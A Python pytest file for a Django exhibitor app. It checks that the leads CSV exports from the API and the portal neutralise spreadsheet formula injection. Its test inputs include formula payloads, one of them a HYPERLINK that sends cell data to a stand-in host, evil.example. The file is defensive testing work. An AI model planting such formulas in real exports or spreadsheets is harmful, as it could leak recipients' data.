import csv
import io

import pytest
from django.test import Client
from rest_framework.test import APIClient

from exhibitors import services
from tests.conftest import attendee
from ticketing import services as ticketing

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)",
    "-2+3",
    "+1",
    "\t=1+1",
    "\r=1+1",
]


def rows(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def hostile_leads(people, acme, future_expo, future_season):
    """Leads whose visitor name, organisation and staff notes are formulas."""
    for number, formula in enumerate(FORMULAS):
        ticket = ticketing.register(
            future_expo,
            future_season,
            [
                attendee(
                    f"Visitor {number}",
                    f"v{number}@example.org",
                    organisation="@SUM(1+1)",
                    share_contact_with_exhibitors=True,
                )
            ],
        ).tickets.get()
        services.capture_lead(acme, ticket.code, user=people["own staff"], note=formula)
    named = ticketing.register(
        future_expo,
        future_season,
        [attendee(FORMULAS[0], "named@example.org", share_contact_with_exhibitors=True)],
    ).tickets.get()
    services.capture_lead(acme, named.code, user=people["own staff"], note="-12.5")


def assert_no_formula(table):
    cells = [cell for row in table[1:] for cell in row]
    assert cells
    dangerous = [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert not dangerous
    assert all(not cell.startswith("-") or cell == "-12.5" for cell in cells)


def test_the_leads_csv_of_the_api_escapes_formulas(people, acme, hostile_leads):
    api = APIClient()
    api.force_login(people["own staff"])
    table = rows(api.get(f"/api/v1/exhibitors/{acme.pk}/leads.csv").content)
    assert_no_formula(table)
    notes = [row[6] for row in table[1:]]
    assert set(notes) == {"'" + formula for formula in FORMULAS} | {"-12.5"}  # a number stays
    assert "'" + FORMULAS[0] in [row[2] for row in table[1:]]
    assert {row[4] for row in table[1:] if row[4]} == {"'@SUM(1+1)"}


def test_the_leads_csv_of_the_portal_escapes_formulas(people, acme, hostile_leads):
    client = Client()
    client.force_login(people["own staff"])
    response = client.get(f"/portal/{acme.pk}/leads.csv")
    assert response.status_code == 200
    table = rows(response.content)
    assert_no_formula(table)
    assert "'-2+3" in [row[6] for row in table[1:]]
